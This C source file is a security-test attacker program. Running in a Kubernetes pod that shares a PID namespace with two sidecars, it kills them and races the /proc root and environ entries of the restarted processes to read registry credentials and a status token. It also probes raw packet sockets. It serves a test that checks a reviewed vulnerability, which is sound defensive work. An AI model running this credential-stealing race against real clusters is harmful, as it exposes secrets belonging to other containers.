// The attacker of tests/api/test_api_sidecar_race_real_node.py: root in the user's container of
// a pod whose PID namespace it shares with the two sidecars, trying to rob them the way
// ../shared/security/review.md finding 3 describes.
//
//   /attacker race N   the entrypoint: serve TCP 8080 (so the container can be ready), wait for
//                      /tmp/attack-start, then N rounds against each sidecar: SIGKILL the
//                      process (found by its /proc/<pid>/cmdline), then spin on the newest pids
//                      (/proc/sys/kernel/ns_last_pid) opening /proc/<pid>/root (O_PATH) and
//                      /proc/<pid>/environ until the kubelet has started it again. The snapshot
//                      agent is raced as root; the status agent by a child that took its uid
//                      (64011), which the kernel requires of a caller without CAP_SYS_PTRACE.
//                      Then, until /tmp/attack-stop exists, it races every new process (the
//                      `snapshot-agent save` execs of saveContainer). Each fd it gets is used
//                      to read the registry config.json and the status token. One line
//                      `SUMMARY {json}` at the end says what happened, including all it read.
//   /attacker start    (run by the test with exec) begins the attack.
//   /attacker stop     ends the save race and prints the summary.
//   /attacker packet   tries socket(AF_PACKET, SOCK_RAW) and prints the outcome.
//
// A process of the attacker's own container (same root directory) is not a theft and is left
// out; everything else that opens is counted as a success.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define START_FILE "/tmp/attack-start"
#define STOP_FILE "/tmp/attack-stop"
#define REGISTRY_CONFIG "var/run/secrets/container-maker/registry/config.json"
#define STATUS_TOKEN "var/run/secrets/container-maker/status/token"
#define STATUS_UID 64011
#define LOOT_MAX 16384
#define ROUND_TIMEOUT_S 90
#define SAVE_WATCH_MAX_S 900

// Shared with the child that races the status agent under its uid.
struct results {
    long attempts;       // open() calls on /proc/<pid>/{root,environ}
    long denied;         // ... refused with EACCES or EPERM (a live process, closed to us)
    long successes;      // ... that opened, on a process outside our container
    int phase;           // 0: snapshot agent rounds, 1: status agent rounds, 2: save race
    long won[3];         // successes per phase
    int rounds[2];       // rounds completed against the snapshot and the status agent
    int round_timeouts;  // rounds in which the sidecar did not come back in time
    int restarts_seen[2];
    int save_processes;  // `snapshot-agent save` processes seen during the save race
    long save_denied;    // refused opens during the save race
    size_t loot_len;
    char loot[LOOT_MAX];  // what was opened and anything read through it (JSON-escaped)
};
static struct results *R;
static struct stat own_root;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Records what was opened or read, JSON-escaped: in the summary (up to LOOT_MAX bytes) and at
// once as a `LOOT` line of the log (all of it).
static void loot(const char *fmt, ...) {
    char buf[2048], esc[8 * sizeof buf];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    size_t e = 0;
    for (int i = 0; i < n && i < (int)sizeof buf - 1; i++) {
        unsigned char c = (unsigned char)buf[i];
        if (c == '"' || c == '\\') {
            esc[e++] = '\\';
            esc[e++] = (char)c;
        } else if (c < 0x20 || c > 0x7e) {
            e += (size_t)snprintf(esc + e, 8, "\\u%04x", c);
        } else {
            esc[e++] = (char)c;
        }
    }
    esc[e] = 0;
    printf("LOOT %s\n", esc);
    size_t room = LOOT_MAX - 1 - R->loot_len;
    size_t take = e < room ? e : room;
    memcpy(R->loot + R->loot_len, esc, take);
    R->loot_len += take;
}

static int last_pid(void) {
    char b[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0) return -1;
    b[n] = 0;
    return atoi(b);
}

// The whole cmdline of pid with NULs as spaces ("" if gone); readable whatever its dumpability.
static void cmdline(int pid, char *out, size_t size) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    out[0] = 0;
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = read(fd, out, size - 1);
    close(fd);
    if (n <= 0) return;
    for (ssize_t i = 0; i < n - 1; i++)
        if (out[i] == 0) out[i] = ' ';
    out[n] = 0;
}

// The pid of the process whose cmdline is exactly `want` ("/snapshot-agent idle"), or -1.
static int find(const char *want, int not_pid) {
    DIR *d = opendir("/proc");
    if (!d) return -1;
    struct dirent *e;
    int found = -1;
    char line[256];
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == not_pid) continue;
        cmdline(pid, line, sizeof line);
        if (strcmp(line, want) == 0) {
            found = pid;
            break;
        }
    }
    closedir(d);
    return found;
}

static void read_through(int dirfd, const char *path, const char *what, int pid) {
    int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        loot(" %s of %d via fd: %s;", what, pid, strerror(errno));
        return;
    }
    char buf[1024];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    loot(" READ %s of %d: %s;", what, pid, buf);
}

// Pids already robbed: each is counted (and read through) once, so that a won race does not
// stall the spinning with its reads.
static int won[4096];
static int n_won;

static int already_won(int pid) {
    for (int i = 0; i < n_won && i < 4096; i++)
        if (won[i] == pid) return 1;
    return 0;
}

// One look at pid: try /proc/<pid>/root and /proc/<pid>/environ; use whatever opens.
static void try_pid(int pid) {
    if (pid <= 1 || pid == getpid() || pid == getppid() || already_won(pid)) return;
    char p[64], line[256];
    snprintf(p, sizeof p, "/proc/%d/root", pid);
    R->attempts++;
    int root = open(p, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (root < 0) {
        if (errno == EACCES || errno == EPERM) R->denied++;
    } else {
        struct stat st;
        if (fstat(root, &st) == 0 && st.st_dev == own_root.st_dev && st.st_ino == own_root.st_ino) {
            close(root);  // a process of our own container (an exec of ours): no theft
            return;
        }
        R->successes++;
        R->won[R->phase]++;
        won[n_won++ % 4096] = pid;
        cmdline(pid, line, sizeof line);
        loot("OPENED /proc/%d/root (%s) as uid %d;", pid, line, (int)getuid());
        // The sidecar makes itself non-dumpable soon after; an fd taken before still works.
        usleep(300000);
        read_through(root, REGISTRY_CONFIG, "registry config.json", pid);
        read_through(root, STATUS_TOKEN, "status token", pid);
        close(root);
    }
    snprintf(p, sizeof p, "/proc/%d/environ", pid);
    R->attempts++;
    int env = open(p, O_RDONLY | O_CLOEXEC);
    if (env < 0) {
        if (errno == EACCES || errno == EPERM) R->denied++;
        return;
    }
    R->successes++;
    R->won[R->phase]++;
    if (!already_won(pid)) won[n_won++ % 4096] = pid;
    char buf[2048];
    ssize_t n = read(env, buf, sizeof buf - 1);
    close(env);
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == 0) buf[i] = ' ';
    buf[n > 0 ? n : 0] = 0;
    cmdline(pid, line, sizeof line);
    loot("OPENED /proc/%d/environ (%s) as uid %d: %s;", pid, line, (int)getuid(), buf);
}

// Spin on the newest pids (and their first threads) above `base` once.
static void spin_once(int base) {
    int last = last_pid();
    for (int q = last; q > base && q >= last - 3; q--) try_pid(q);
}

// `rounds` rounds of kill-and-race against the process whose cmdline is `want`.
static void kill_rounds(const char *want, int which, int rounds) {
    for (int round = 0; round < rounds; round++) {
        double deadline = now() + ROUND_TIMEOUT_S;
        int victim;
        while ((victim = find(want, -1)) < 0) {
            if (now() > deadline) {
                R->round_timeouts++;
                printf("round %d: no %s to kill\n", round, want);
                return;
            }
            usleep(20000);
        }
        int base = last_pid();
        if (kill(victim, SIGKILL) != 0) {
            printf("round %d: kill %d: %s\n", round, victim, strerror(errno));
            fflush(stdout);
            R->round_timeouts++;
            return;
        }
        int back = -1;
        long spins = 0;
        while (now() < deadline) {
            spin_once(base);
            // Every 256 spins look whether the kubelet has started it again; then race a
            // little longer (the new process's first moments are the window) and go on.
            if ((++spins & 0xff) == 0 && (back = find(want, victim)) > 0) {
                double until = now() + 0.3;
                while (now() < until) spin_once(base);
                break;
            }
        }
        if (back < 0) {
            R->round_timeouts++;
            printf("round %d: %s did not come back\n", round, want);
        } else {
            R->restarts_seen[which]++;
        }
        R->rounds[which]++;
        printf("round %d against %s: killed %d, back as %d, %ld spins\n", round, want, victim,
               back, spins);
        fflush(stdout);
    }
}

// Whether pid is a process (its thread group's leader), not one of its threads: a thread's
// /proc/<tid> can be opened too and shows the same cmdline. /proc/<pid>/status is world-readable.
static int leader(int pid) {
    char p[64], buf[1024];
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    char *tgid = strstr(buf, "\nTgid:");
    return tgid && atoi(tgid + 6) == pid;
}

// Race every new process until STOP_FILE exists: saveContainer's `snapshot-agent save` execs.
static void save_race(void) {
    int base = last_pid();
    int counted[256] = {0};  // save processes already counted (a ring)
    int n_counted = 0;
    double deadline = now() + SAVE_WATCH_MAX_S;
    long spins = 0;
    char line[256];
    while (now() < deadline) {
        long denied_before = R->denied;
        spin_once(base);
        R->save_denied += R->denied - denied_before;
        if ((++spins & 0x3f) == 0) {
            // A save exec shows its cmdline once runc has exec'd it: count each one once.
            int last = last_pid();
            for (int q = last; q > base && q > last - 16; q--) {
                cmdline(q, line, sizeof line);
                if (strncmp(line, "/snapshot-agent save", 20) != 0 || !leader(q)) continue;
                int known = 0;
                for (int i = 0; i < 256; i++) known |= counted[i] == q;
                if (!known) {
                    counted[n_counted++ % 256] = q;
                    R->save_processes++;
                    printf("save process %d: %s\n", q, line);
                }
            }
        }
        if ((spins & 0x3ff) == 0 && access(STOP_FILE, F_OK) == 0) return;
    }
}

static void serve_8080(void) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8080)};
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 64) != 0) {
        perror("listen 8080");
        _exit(1);
    }
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c >= 0) close(c);
    }
}

static int race(int rounds) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    R = mmap(NULL, sizeof *R, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (R == MAP_FAILED || stat("/", &own_root) != 0) return 1;
    pid_t server = fork();
    if (server == 0) serve_8080();
    printf("attacker ready (pid %d, uid %d); waiting for %s\n", getpid(), getuid(), START_FILE);
    while (access(START_FILE, F_OK) != 0) usleep(100000);

    printf("racing the snapshot agent as root\n");
    kill_rounds("/snapshot-agent idle", 0, rounds);

    printf("racing the status agent as uid %d\n", STATUS_UID);
    pid_t child = fork();
    if (child == 0) {
        gid_t gid = STATUS_UID;
        if (setgroups(1, &gid) != 0 || setresgid(gid, gid, gid) != 0 ||
            setresuid(STATUS_UID, STATUS_UID, STATUS_UID) != 0) {
            printf("cannot take uid %d: %s\n", STATUS_UID, strerror(errno));
            _exit(1);
        }
        R->phase = 1;
        kill_rounds("/status-agent run", 1, rounds);
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    printf("KILL-ROUNDS-DONE\n");

    R->phase = 2;
    save_race();
    printf("SUMMARY {\"attempts\":%ld,\"denied\":%ld,\"successes\":%ld,"
           "\"successes_by_phase\":{\"snapshot\":%ld,\"status\":%ld,\"save\":%ld},"
           "\"rounds\":{\"snapshot\":%d,\"status\":%d},\"restarts_seen\":{\"snapshot\":%d,"
           "\"status\":%d},\"round_timeouts\":%d,\"save_processes\":%d,\"save_denied\":%ld,"
           "\"loot\":\"%.*s\"}\n",
           R->attempts, R->denied, R->successes, R->won[0], R->won[1], R->won[2], R->rounds[0], R->rounds[1],
           R->restarts_seen[0], R->restarts_seen[1], R->round_timeouts, R->save_processes,
           R->save_denied, (int)R->loot_len, R->loot);
    kill(server, SIGKILL);
    // Stay up: the container must not restart (the test reads this run's log).
    for (;;) pause();
}

static int touch(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) {
        perror(path);
        return 1;
    }
    close(fd);
    return 0;
}

static int packet(void) {
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (s >= 0) {
        printf("AF_PACKET: opened\n");
        close(s);
        return 0;
    }
    printf("AF_PACKET: errno %d (%s)\n", errno, strerror(errno));
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && strcmp(argv[1], "race") == 0) return race(argc > 2 ? atoi(argv[2]) : 20);
    if (argc >= 2 && strcmp(argv[1], "start") == 0) return touch(START_FILE);
    if (argc >= 2 && strcmp(argv[1], "stop") == 0) return touch(STOP_FILE);
    if (argc >= 2 && strcmp(argv[1], "packet") == 0) return packet();
    fprintf(stderr, "usage: %s race N | start | stop | packet\n", argv[0]);
    return 2;
}
